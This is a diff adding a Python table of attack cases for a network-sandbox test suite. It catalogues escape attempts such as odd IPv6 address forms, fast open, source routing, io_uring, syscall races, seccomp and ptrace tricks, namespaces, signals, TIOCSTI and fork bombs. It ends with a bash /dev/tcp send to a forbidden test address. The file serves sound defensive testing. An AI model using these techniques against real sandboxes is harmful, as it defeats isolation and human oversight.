@@ -1,0 +1,240 @@
+# SPDX-License-Identifier: Apache-2.0
+"""
+The attacks: a row each.  Its name is the command, a program of this directory or of
+tests/programs with its mode; what it tries; and how natively it shows: by a packet to a
+forbidden address, or by the word "hit" where the aim is another.
+"""
+from dataclasses import dataclass, field
+
+PACKET, HIT = "packet", "hit"
+
+# As open as a policy gets, but for the addresses: nothing but the fence itself keeps the attack from its aim.
+OPEN = """gae-policy 1
+deny  tcp,udp to {{ 127.0.0.2 fd00::2 203.0.113.1 }}
+deny  tcp,udp to {{ 127.0.0.1 ::1 }} port {port}
+allow tcp,udp to any
+listen  allow
+bind    any
+unix    pair
+netlink route-read
+sockopt any any pass
+"""
+# Datagram sockets may ask for a source address where TCP is allowed.
+TCP_ONLY = OPEN.replace("gae-policy 1\n", "gae-policy 1\nallow tcp to {{ 127.0.0.2 fd00::2 }}\n")
+ONE_PATH = OPEN.replace("unix    pair", "unix    allow {dir}/allowed")
+RACE = """gae-policy 1
+allow tcp,udp to 127.0.0.1 port {port}
+deny tcp,udp to any
+sockopt any any pass
+"""
+SHIPPED = None
+
+ISOLATED = ("unshare", "-p", "-f", "--mount-proc", "--kill-child", "--")
+IN_SHELL = (*ISOLATED, "sh", "-c", '"$@"; exit $?', "sh")
+
+
+@dataclass
+class Row:
+    command: str
+    tries: str
+    shows: str = PACKET
+    policy: str = OPEN
+    outsider: bool = False   # an outsider runs beside it
+    wrap: tuple = ()         # what runs the whole, natively and fenced
+    launch: tuple = ()       # what runs it before the fence: "inherit KIND"
+    ends: tuple = (0,)       # exit statuses under gae-run
+    seconds: int = 20
+    waits: float = 0         # for packets that the kernel sends a moment later
+    terminal: bool = False   # run at a terminal where ^Z and ^\\ are typed when it says "ready"
+    kills: str = ""          # part of the fence that is killed when it says "ready"
+    skips: dict = field(default_factory=dict)  # native line -> why it cannot be tried here
+    needs_root: str = ""
+    copy: int = 0            # a copy of the program, with this mode
+    options: tuple = ()      # of gae-run
+    without: str = ""        # the fence without this: "landlock"
+    own: bool = False        # here the port of 127.0.0.1 is allowed
+    user: bool = False       # by an ordinary user, for root may change such files
+    launch_is_heard: bool = False  # packets do not count: what runs before the fence sends some
+    arguments: tuple = ()
+
+
+def rows(program, modes, **common):
+    return [Row(f"{program} {mode}", tries, **common) for mode, tries in modes.items()]
+
+
+AIMS = {
+    "tcp_connect": "connect", "tcp_connect_nonblocking": "connect, non-blocking",
+    "tcp_connect_long": "connect with 128 bytes of address", "tcp_connect_port": "a forbidden port of an allowed host",
+    "tcp_connect_any": "connect to 0.0.0.0", "tcp_connect_any6": "connect to ::",
+    "tcp_connect_after_disconnect": "an allowed connect, AF_UNSPEC, then the forbidden one",
+    "tcp_connect_v6": "connect over IPv6", "tcp_connect_v6_24": "an IPv6 address of 24 bytes",
+    "tcp_connect_mapped": "::ffff:a.b.c.d", "tcp_connect_mapped_any": "::ffff:0.0.0.0",
+    "tcp_connect_compatible": "::a.b.c.d", "tcp_connect_nat64": "64:ff9b::a.b.c.d", "tcp_connect_6to4": "2002:aabb:ccdd::",
+    "tcp_connect_teredo": "2001:0::, the address inverted at its end",
+    "fast_open": "sendto with MSG_FASTOPEN", "fast_open_sendmsg": "sendmsg with MSG_FASTOPEN",
+    "fast_open_sendmmsg": "sendmmsg with MSG_FASTOPEN", "fast_open_connect": "TCP_FASTOPEN_CONNECT",
+    "fast_open_mapped": "MSG_FASTOPEN to ::ffff:a.b.c.d",
+    "udp_connect": "connected UDP and send", "udp_connect_write": "connected UDP and write",
+    "udp_sendto": "sendto", "udp_sendto_any": "sendto 0.0.0.0", "udp_sendto_long": "sendto with 128 bytes of address",
+    "udp_sendto_unspec": "sendto with AF_UNSPEC, which UDP takes for IPv4",
+    "udp_sendto_connected": "another name on a connected socket", "udp_sendmsg": "sendmsg",
+    "udp_sendmmsg_first": "the first of a sendmmsg", "udp_sendmmsg_last": "the last of a sendmmsg",
+    "udp_sendmmsg_middle": "one in the middle of a sendmmsg", "udp_v4_on_v6": "an IPv4 address on an IPv6 socket",
+    "udp_v6": "sendto over IPv6", "udp_mapped": "sendto ::ffff:a.b.c.d", "udp_any6": "sendto ::",
+    "udp_compatible": "sendto ::a.b.c.d", "udp_nat64": "sendto 64:ff9b::a.b.c.d", "udp_6to4": "sendto 2002:aabb:ccdd::",
+    "udp_teredo": "sendto 2001:0::", "udp_source_route": "IP_RETOPTS by way of the forbidden host",
+    "udp_packet_info": "IP_PKTINFO with a source of its own choice",
+    "udp_routing_header": "IPV6_RTHDR of type 2 by way of the forbidden host",
+}
+NO_MIP6 = {"udp_routing_header: EINVAL": "no routing headers of type 2 in this kernel (CONFIG_IPV6_MIP6)"}
+
+RACES = {
+    "connect-address": "the address of a connect", "connect-family": "its family", "connect-udp": "the address of a UDP connect",
+    "connect-probe": "send while a UDP socket asks for its source", "sendto-address": "the address of a sendto",
+    "sendmsg-name": "the pointer to the name", "sendmsg-control": "the kind of control message",
+    "sendmsg-descriptor": "the descriptor, by dup2", "sendmsg-mapping": "the page, by mprotect",
+    "sendmmsg-name": "the names of a batch", "fast-open-address": "the address of a fast open",
+    "sendto-kind": "TCP or UDP behind the descriptor", "sendmsg-parts": "the list of parts and the name beside it",
+}
+RACE_TRIES = {False: "20000", True: "8000"}
+
+FAMILIES = {
+    3: "AX.25", 4: "IPX", 5: "AppleTalk", 6: "NET/ROM", 8: "ATM", 9: "X.25", 11: "ROSE", 15: "IPsec keys", 17: "packets",
+    19: "Econet", 20: "ATM, switched", 21: "RDS", 22: "SNA", 23: "IrDA", 24: "PPPoX, L2TP", 25: "Wanpipe", 26: "LLC",
+    27: "InfiniBand", 28: "MPLS", 29: "CAN", 30: "TIPC", 31: "Bluetooth", 32: "IUCV", 33: "RxRPC", 34: "ISDN", 35: "Phonet",
+    36: "IEEE 802.15.4", 37: "CAIF", 38: "AF_ALG, the kernel's ciphers", 39: "NFC", 40: "vsock, the host of this machine",
+    41: "KCM", 42: "Qualcomm's router", 43: "SMC", 44: "XDP", 45: "MCTP",
+}
+
+SIGNALS = {
+    "plain": "kill", "group": "kill of the group", "thread": "tkill", "thread_of": "tgkill", "queued": "rt_sigqueueinfo",
+    "queued_thread": "rt_tgsigqueueinfo", "pidfd": "a pidfd", "proc_pidfd": "/proc/PID as a pidfd",
+    "owner": "F_SETOWN and F_SETSIG", "owner_group": "F_SETOWN of the group", "owner_thread": "F_SETOWN_EX",
+    "socket_owner": "FIOSETOWN", "lease": "a lease that is broken", "notify": "dnotify"}
+
+STARVE = {
+    "limit": "RLIMIT_NOFILE by prlimit", "cpu_limit": "RLIMIT_CPU by prlimit", "nice_process": "nice 19",
+    "nice_group": "nice 19 for the group", "nice_user": "nice for the user", "nice_joined": "nice for a group that it joins",
+    "io": "ioprio_set", "processor": "one processor", "policy": "SCHED_IDLE", "attributes": "sched_setattr",
+    "memory": "/proc/PID/mem", "vector": "process_vm_writev",
+    "descriptor": "pidfd_getfd", "list": "/proc/PID/fd", "traced": "ptrace", "advice": "process_madvise",
+    "robust_list": "get_robust_list", "counted": "perf_event_open"}
+
+OUTSIDER = {
+    "pidfd_getfd": "takes an outsider's socket", "ptrace_attach": "traces an outsider", "ptrace_seize": "by PTRACE_SEIZE",
+    "process_vm_writev": "writes an outsider's memory", "proc_mem": "by /proc/PID/mem",
+    "proc_task_mem": "by its task, from a child"}
+
+ROWS = [
+    *(Row(f"aims {mode}", tries, skips=NO_MIP6) for mode, tries in AIMS.items()),
+    *rows("names", {
+        "page_edge": "an address that ends with a page", "page_edge_v6": "the same, IPv6 in 24 bytes",
+        "overlapping": "name, data and message in the same bytes", "scope_id": "a scope id",
+        "flow_info": "flow information", "any_when_bound": "0.0.0.0 from a socket bound to the forbidden address",
+        "any_packet_info": "0.0.0.0 with IP_PKTINFO naming the forbidden address", "port_zero": "port 0",
+        "address_form": "IPV6_ADDRFORM makes it IPv4 meanwhile", "aimed_anew": "connect, AF_UNSPEC, connect, write",
+        "zero_copy": "MSG_ZEROCOPY with a name", "off_the_wire": "MSG_DONTROUTE, to a host on the wire"}),
+    *rows("options", {
+        "source_route_tcp": "IP_OPTIONS with a source route, TCP", "source_route_udp": "the same, UDP",
+        "source_route_mapped": "IP_OPTIONS on an IPv6 socket", "segments": "IPV6_RTHDR with segments (RFC 8754)",
+        "transparent": "IP_TRANSPARENT: somebody else's source address", "repair": "TCP_REPAIR: connected without a handshake",
+        "bound_device": "SO_BINDTODEVICE and IP_UNICAST_IF", "marked": "SO_MARK, for other routes",
+        "retopts": "IP_RETOPTS as control data", "retopts_mapped": "the same on an IPv6 socket",
+        "retopts_second": "the same behind a harmless one", "packet_info6": "IPV6_PKTINFO with a source of its own choice"}),
+    *rows("options", {
+        "multicast": "a datagram to a group", "broadcast": "datagrams to broadcast addresses"}, policy=SHIPPED),
+    Row("options membership", "the report that the kernel sends when a group is joined", policy=SHIPPED, waits=0.5),
+    *rows("families", {
+        "raw": "raw IP", "raw_udp": "raw UDP", "raw_v6": "raw ICMPv6", "ping": "ICMP echo", "ping_v6": "ICMPv6 echo",
+        "packet": "AF_PACKET", "packet_old": "SOCK_PACKET", "mptcp": "Multipath TCP", "mptcp_v6": "Multipath TCP over IPv6",
+        "mptcp_fast_open": "Multipath TCP by fast open", "sctp": "SCTP", "sctp_dgram": "SCTP, one to many", "dccp": "DCCP",
+        "udplite": "UDP-Lite", "udplite_v6": "UDP-Lite over IPv6", "smc": "SMC over TCP",
+        "odd_registers": "a raw socket with bits above 32 in its registers"}),
+    *(Row(f"family {number}", f"a socket of family {number}: {name}", shows=HIT) for number, name in FAMILIES.items()),
+    *rows("probe", {
+        "send": "send", "write": "write, writev, pwritev2", "message": "sendmsg and sendmmsg without a name",
+        "sendfile": "sendfile", "splice": "vmsplice and splice", "aio": "Linux AIO", "corked": "UDP_CORK and MSG_MORE",
+        "segmented": "UDP_SEGMENT", "shut_again": "shutdown, AF_UNSPEC and dup", "over_v6": "the same over IPv6"},
+           policy=TCP_ONLY),
+    *rows("uring", {
+        "connect": "io_uring: connect", "poller": "io_uring: connect by the kernel's thread",
+        "socket": "io_uring: socket and connect", "message": "io_uring: sendmsg", "send": "io_uring: send with an address",
+        "message_zc": "io_uring: sendmsg, zero copy"}),
+    *rows("foreign", {
+        "direct": "int 0x80: socket and connect", "direct_sends": "int 0x80: sendmsg and sendmmsg",
+        "socketcall": "int 0x80: socketcall", "option": "int 0x80: setsockopt with a source route", "x32": "x32 numbers"}),
+    *(Row(f"race {mode}", f"a second thread changes {tries}", policy=RACE, own=True) for mode, tries in RACES.items()),
+    *rows("tasks", {
+        "clone_vm": "CLONE_VM without CLONE_THREAD", "clone_files": "CLONE_FILES without CLONE_THREAD",
+        "clone_vm_files": "CLONE_VM and CLONE_FILES", "vfork": "vfork", "unshared_files": "a thread with its own descriptors",
+        "same_number": "a number that is another socket in another table", "no_main_thread": "the main thread is gone",
+        "sibling": "CLONE_PARENT: a child of the supervisor's", "daemon": "a daemon that outlives the program",
+        "pid_namespace": "a process namespace of its own", "user_namespace": "a user namespace of its own",
+        "another_user": "after setresuid", "not_dumpable": "PR_SET_DUMPABLE 0: its memory cannot be read",
+        "flood": "among 25,000 calls of 64 threads", "signal_storm": "a signal every 100 us"}),
+    Row("tasks unreadable", "a program whose memory nobody may read", copy=0o711, user=True, ends=(0, 125, 126)),
+    Row("tasks clone3", "clone3, whose flags lie in memory", shows=HIT),
+    *rows("fault", {
+        "uffd": "an address behind userfaultfd, filled late", "uffd_late": "filled after the supervisor gave up",
+        "fuse": "an address in a file of FUSE, filled late", "fuse_late": "filled after the supervisor gave up"},
+          ends=(0, 137)),
+    *rows("netlink", {
+        "send": "a new address by send", "write": "by write", "sendto": "by sendto", "sendmsg": "by sendmsg",
+        "behind_a_question": "behind a message that is allowed", "other_protocols": "other protocols of netlink",
+        "raced": "a second thread changes the message"}, shows=HIT),
+    *rows("filters", {
+        "allow_all": "a filter of its own that allows all", "tracer": "a tracer changes the number of a call",
+        "tracer_of_filter": "the same at the event of a filter", "user_dispatch": "PR_SET_SYSCALL_USER_DISPATCH",
+        "personality": "another personality"}),
+    *rows("filters", {
+        "listener": "a listener of its own", "listener_high_bits": "the same with bits above 32",
+        "suspended": "PTRACE_O_SUSPEND_SECCOMP"}, shows=HIT),
+    Row("filters listener", "a listener of its own, after the supervisor's death", shows=HIT, kills="supervisor", ends=(125,)),
+    *rows("namespaces", {
+        "unshare": "another network", "unshare_user": "with a user namespace", "clone": "by clone",
+        "clone_high_bits": "with bits above 32", "clone3": "by clone3"}, shows=HIT),
+    *rows("namespaces", {"setns": "an outsider's network", "setns_pidfd": "by pidfd"}, shows=HIT, outsider=True),
+    *rows("namespaces", {
+        "root_inside": "rights over a user namespace of its own", "other_proc": "another /proc over the real one",
+        "no_root_directory": "another root directory"}),
+    *rows("outside", OUTSIDER, outsider=True),
+    *rows("outside", OUTSIDER, outsider=True, user=True),
+    *rows("outside", {
+        "stream": "a daemon's socket by path", "stream_abstract": "an abstract one",
+        "received_socket": "a daemon that gives its socket away", "datagram": "datagrams to a daemon's path",
+        "datagram_abstract": "to an abstract name"}, outsider=True),
+    Row("outside proc_fd", "looks at an outsider's descriptors", shows=HIT, outsider=True),
+    *rows("outside", {
+        "symlink": "a link to a daemon's socket under a name that is allowed", "dots": "odd paths to it",
+        "stream_abstract": "an abstract one, where one path is allowed",
+        "datagram": "datagrams, where one path is allowed"}, outsider=True, policy=ONE_PATH),
+    *rows("signals", SIGNALS, shows=HIT),
+    # Before 6.12 nothing but the filter stands between.
+    # What the front gets of SIGIO it hands on, and the program ends by it.
+    *rows("signals", SIGNALS, shows=HIT, without="landlock", ends=(0, -29)),
+    Row("signals own_group", "kill of its own group", shows=HIT),
+    Row("signals everybody", "kill of everybody", shows=HIT, wrap=IN_SHELL),
+    *rows("starve", STARVE, shows=HIT),
+    *rows("starve", STARVE, shows=HIT, without="landlock"),
+    Row("starve limit", "RLIMIT_NOFILE by prlimit, while there is a trace", shows=HIT, options=("--trace", "{dir}/trace")),
+    *rows("starve", {
+        "oom_score_adj": "/proc/PID/oom_score_adj", "coredump_filter": "/proc/PID/coredump_filter"}, shows=HIT, user=True),
+    *rows("terminal", {"push_key": "TIOCSTI", "push_key_high_bits": "TIOCSTI with bits above 32"}, shows=HIT),
+    Row("terminal foreground", "makes the supervisor the terminal's foreground, for ^Z and ^\\", shows=HIT, terminal=True),
+    *(Row(f"inherit use {kind}", f"a descriptor from before: {what}", launch=("inherit", kind), ends=(125,))
+      for kind, what in {"packet": "a packet socket", "raw": "a raw socket", "tunnel": "a tunnel",
+                         "udp": "UDP", "connected": "UDP, connected"}.items()),
+    Row("inherit use tcp", "a descriptor from before: TCP, connected", launch=("inherit", "tcp"), ends=(125,), shows=HIT,
+        launch_is_heard=True),
+    *(Row(f"inherit use {kind}", f"a descriptor from before: {what}", launch=("inherit", kind), ends=(125,), shows=HIT)
+      for kind, what in {"ring": "an io_uring", "listening": "a listening socket"}.items()),
+    *rows("machine", {
+        "module": "a kernel module", "bpf": "a socket map", "perf": "events of the whole machine",
+        "key_helper": "a helper that the kernel starts outside", "ports": "I/O ports", "memory_device": "/dev/mem"}, shows=HIT),
+    Row("machine tunnel", "a frame by a tap device that is there"),
+    Row("machine set_user_id", "a set-user-id file", copy=0o4755, needs_root="root, to make such a file", shows=HIT),
+    *(Row("spin", f"processes that fork without end, while the {who} is killed from outside", kills=who, wrap=ISOLATED,
+          ends=ends) for who, ends in {"supervisor": (125,), "guard": (125, -9), "front": (-9, 137)}.items()),
+    Row("bash", "/dev/tcp of bash", arguments=("bash", "-c", "echo x >/dev/tcp/127.0.0.2/$ATTACK_PORT"),
+        ends=(0, 1)),
+]
